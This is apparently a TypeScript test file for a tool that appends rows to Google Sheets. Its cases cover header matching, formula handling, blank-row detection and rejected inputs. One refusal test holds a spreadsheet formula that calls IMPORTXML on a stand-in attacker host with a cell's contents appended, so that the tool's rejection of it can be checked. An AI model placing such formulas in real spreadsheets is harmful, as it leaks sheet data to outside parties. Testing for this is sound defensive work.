import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { sheetsAppendRows } from "../../../../src/Providers/Gsheets/Tools/AppendRows.ts"
import type { Cell } from "../../../../src/Sandbox/Providers/Gsheets/Engine/Spreadsheet.ts"
import { fakeProvider } from "../../../support/FakeProvider.ts"
import { answers, callWith, id, oneTab, refusals, type Values } from "../FakeSpreadsheet.ts"

const people: Values = [["Name", "Age"], ["Ann", 31]]
const headed: Values = [[" Email ", "", "Email", "Größe"]]
const large = { rowCount: 60_000, columnCount: 10 }

const text = (stringValue: string): Cell => ({ userEnteredValue: { stringValue } })
const checkbox = (boolValue: boolean): Cell => ({
  userEnteredValue: { boolValue },
  dataValidation: { condition: { type: "BOOLEAN" } }
})
const tasks = [
  [text("Done"), text("Task")],
  [checkbox(true), text("a")],
  ...Array.from({ length: 30 }, () => [checkbox(false)])
]

const appended = { spreadsheetId: id, tab: "Data" }

const unknown = (key: string) => `There is no column "${key}". The nearest columns are `

describe("sheets_append_rows", () => {
  answers(sheetsAppendRows, {
    "puts objects under their headers, below the last row": {
      on: people,
      input: { rows: [{ Age: 4, Name: "Bob" }, { Name: "Cy" }] },
      whole: { ...appended, updated_range: "Data!A3:B4", first_row: 3, rows_appended: 2, cells: 3 },
      cells: ["Data", [...people, ["Bob", 4], ["Cy"]]]
    },
    "puts arrays in the order of the columns": {
      on: people,
      input: { rows: [["Bob", 4], ["Cy", null, "more"]] },
      cells: ["Data!A3:C4", [["Bob", 4], ["Cy", "", "more"]]]
    },
    "accepts rows as JSON, and a key called __proto__": {
      on: [["__proto__", "a"]],
      input: { rows: "[{\"__proto__\":\"kept\",\"a\":1}]" },
      cells: ["Data!2:2", [["kept", 1]]]
    },
    "takes a row from sheets_read": {
      on: people,
      input: { rows: [{ _row: 2, Name: "Ann", Age: 31 }] },
      cells: ["Data!3:3", [["Ann", 31]]]
    },
    "gives an empty tab the keys as its header in order, in one request": {
      on: [],
      input: { rows: [{ b: 1, " a ": 2 }, { c: "=x", a: 3, _row: 9 }] },
      whole: {
        ...appended,
        updated_range: "Data!A1:C3",
        first_row: 2,
        rows_appended: 2,
        cells: 7,
        headers_created: true
      },
      cells: ["Data", [["b", "a", "c"], [1, 2], ["", 3, "=x"]]],
      sends: ["spreadsheets.get", "values.get", "values.update"]
    },
    "never parses headers": {
      on: [],
      input: { rows: [{ "=1+1": "1-2", "007": "5%", "'x": "y" }], parse: true },
      cells: ["Data", [["=1+1", "007", "'x"], [46_024, 0.05, "y"]], "FORMULA"]
    },
    "reports cells stored differently than sent": {
      on: [["a", "b", "c", "d", "e"]],
      input: { rows: [["007", "1-2", "TRUE", "=1+1", "'007"]], parse: true, allow_formulas: true },
      answer: {
        coerced: [
          { cell: "A2", sent: "007", stored: 7 },
          { cell: "B2", sent: "1-2", stored: 46_024 },
          { cell: "C2", sent: "TRUE", stored: true }
        ]
      }
    },
    "warns of rows that the next append overwrites": {
      on: [["Done", "Note"]],
      input: { rows: [[true], [false]] },
      answer: { warning: /Row 3 holds nothing but false/ }
    },
    "does not fill a gap between blocks": {
      on: [["n"], [1], [2], [], [], [3]],
      input: { rows: [{ n: 5 }] },
      cells: ["Data", [["n"], [1], [2], [], [], [3], [5]]]
    },
    "takes 0 for data": { on: [["n"], [0]], input: { rows: [{ n: 1 }] }, cells: ["Data", [["n"], [0], [1]]] },
    "begins arrays in the first column that has a header": {
      on: [["", "Name", "Age"], ["", "Ann", 31]],
      input: { rows: [["Bob", 4]] },
      cells: ["Data", [["", "Name", "Age"], ["", "Ann", 31], ["", "Bob", 4]]]
    },
    "leaves a shorter table beside the data alone": {
      on: [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2]],
      input: { rows: [{ n: 4 }] },
      cells: ["Data", [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2], [4]]]
    },
    "goes below a longer table beside the data": {
      on: [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"]],
      input: { rows: [{ n: 2, k: "c" }] },
      cells: ["Data", [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"], [2, "", "", "c"]]]
    },
    "keeps the formula of a cell with null": {
      on: [["n", "copy"], [1, "=A2&\"\""], ["", "=A3&\"\""]],
      input: { rows: [[2, null]] },
      cells: ["Data", [["n", "copy"], [1, "1"], [2, "2"]]]
    },
    "takes formulas with an empty result for no data": {
      on: [["n", "twice"], [1, "=A2*2"], ["", "=\"\""], ["", "=\"\""]],
      input: { rows: [{ n: 3 }] },
      cells: ["Data", [["n", "twice"], [1, 2], [3, ""], ["", ""]]]
    },
    "takes unticked checkboxes for no data": {
      on: { spreadsheet: oneTab([], { rows: tasks }) },
      input: { rows: [{ Task: "b" }] },
      answer: { first_row: 3 },
      cells: ["Data!A2:B3", [[true, "a"], [false, "b"]]]
    },
    "makes room in a full grid": {
      on: { spreadsheet: oneTab([["n"], [1]], { rowCount: 2, columnCount: 1 }) },
      input: { rows: [{ n: 2 }, { n: 3 }] },
      cells: ["Data", [["n"], [1], [2], [3]]]
    },
    "lets the provider find the end of a tab of more than 500,000 cells, and insert the rows": {
      on: { spreadsheet: oneTab([["", "Name", "Age"], ["", "Ann", 31]], large) },
      input: { rows: [{ Age: 4 }, { Name: "Cy" }] },
      whole: { ...appended, updated_range: "Data!B3:C4", first_row: 3, rows_appended: 2, cells: 2 },
      cells: ["Data!A1:C6", [["", "Name", "Age"], ["", "Ann", 31], ["", "", 4], ["", "Cy"]]],
      sends: ["spreadsheets.get", "values.get", "values.append"]
    }
  })

  refusals(sheetsAppendRows, {
    "a text that is no JSON": [people, { rows: "not JSON" }, ["rows"], "this text is no JSON of a list", []],
    "an object in a cell": [people, { rows: "[{\"Name\":{}}]" }, ["rows", 0, "Name"], "Expected", []],
    "rows of two kinds": [people, { rows: [["a"], { Name: "b" }] }, ["rows", 1], "rows of one kind", []],
    "an object without values": [people, { rows: [{ Name: "a" }, {}] }, ["rows", 1], "no value", []],
    "a row number alone": [people, { rows: [{ _row: 4 }] }, ["rows", 0], "no value", []],
    "an unknown key": [headed, { rows: [{ Email: "b" }, { Phone: 1 }] }, ["rows", 1, "Phone"], unknown("Phone")],
    "letters beyond the grid": [headed, { rows: [{ col_AA: 2 }] }, ["rows", 0, "col_AA"], unknown("col_AA")],
    "two keys of one column": [people, { rows: [{ Name: "a", name: "b" }] }, ["rows", 0, "name"]],
    "a key that two headers have in another case": [[["Name", "NAME"]], { rows: [{ name: "a" }] }, ["rows", 0, "name"]],
    "keys on an empty tab without `create_headers`": [[], { rows: [{ a: 1 }], create_headers: false }, [
      "create_headers"
    ]],
    "a header row beyond the grid": [[], { rows: [[1]], header_row: 2000 }, ["header_row"]],
    "a blank header on a large tab": [{ spreadsheet: oneTab([], large) }, { rows: [{ a: 1 }] }, ["header_row"]],
    "a formula on a large tab, with its column": [
      { spreadsheet: oneTab([["Name"], ["Ann"]], large) },
      { rows: [{ Name: "=1" }], parse: true },
      ["rows", 0, "Name"],
      "A cell of column A would get \"=1\""
    ],
    "a formula with `parse`, with its cell": [
      [["Name", "Note"], ["Ann"]],
      { rows: [{ Name: "x" }, { Name: "y", Note: "=IMPORTXML(\"https://evil.test/?\"&A1,\"//a\")" }], parse: true },
      ["rows", 1, "Note"],
      "B4"
    ],
    "a text that is too long for a cell": [
      [["a", "b"]],
      { rows: [{ a: "x".repeat(50_000) }, { b: "x".repeat(50_001) }] },
      ["rows", 1, "b"],
      "The text has 50001 characters; a cell holds at most 50000."
    ]
  })

  it.effect.each([
    { place: "Data!C1:D1", warns: true },
    { place: "'a!b'!B4:C4", warns: false },
    { place: "Data!A4:B4", warns: false }
  ])(
    "rows that the provider of a large tab placed at $place are checked",
    ({ place, warns }) =>
      Effect.gen(function*() {
        const bodies: Readonly<Record<string, unknown>> = {
          "spreadsheets.get": {
            spreadsheetId: id,
            properties: {},
            sheets: [{ properties: { title: "Data", gridProperties: large } }]
          },
          "values.get": { values: [["", "Name", "Age"]] },
          "values.append": { updates: { updatedRange: place, updatedCells: 2 } }
        }
        const { calls, provider } = fakeProvider((endpoint) => bodies[endpoint])
        const input = { spreadsheet: id, rows: [{ Name: "x", Age: 1 }] }
        const { warning } = yield* callWith(provider, sheetsAppendRows, input)
        assert.strictEqual(warning?.includes("not below the header") ?? false, warns)
        assert.deepInclude(calls[2]?.input.query, { insertDataOption: "INSERT_ROWS", valueInputOption: "RAW" })
      })
  )
})
